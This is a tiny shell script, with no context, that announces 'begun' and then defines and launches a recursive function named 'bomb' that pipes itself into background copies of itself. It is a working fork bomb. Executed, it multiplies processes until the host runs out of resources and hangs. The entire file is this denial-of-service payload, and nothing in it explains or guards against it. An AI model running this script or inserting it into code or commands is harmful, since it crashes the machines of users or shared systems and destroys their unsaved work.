echo begun
bomb() {
    bomb | bomb &
}
bomb
wait
